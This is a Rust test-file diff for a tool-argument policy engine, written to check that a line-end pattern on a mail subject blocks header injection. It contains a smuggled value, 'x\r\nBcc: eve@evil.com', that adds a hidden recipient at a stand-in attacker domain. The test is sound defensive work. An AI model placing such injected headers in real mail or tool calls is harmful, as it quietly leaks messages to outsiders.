@@ -57,3 +57,21 @@ fn limit_subselects_that_are_nested_deep_are_refused() {
     under.allows("db", "q", nested(3));
     under.denies("db", "q", nested(40), "servers.db.tools.q.args.sql");
 }
+
+#[test]
+fn limit_a_line_end_in_a_free_argument_beside_recipients_passes() {
+    let under = Under::policy(
+        "servers: { mail: { tools: { send: { args: { to: { emails: ['*@acme.com'] }, subject: { max_length: 80 } } } } } }",
+    );
+    // A server that writes headers by hand sends this to eve as well; a pattern without line ends holds it.
+    under.allows("mail", "send", json!({"to": "a@acme.com", "subject": "x\r\nBcc: eve@evil.com"}));
+    let held = Under::policy(
+        "servers: { mail: { tools: { send: { args: { to: { emails: ['*@acme.com'] }, subject: { matches: '[^\\r\\n]*' } } } } } }",
+    );
+    held.denies(
+        "mail",
+        "send",
+        json!({"to": "a@acme.com", "subject": "x\r\nBcc: eve@evil.com"}),
+        "servers.mail.tools.send.args.subject",
+    );
+}
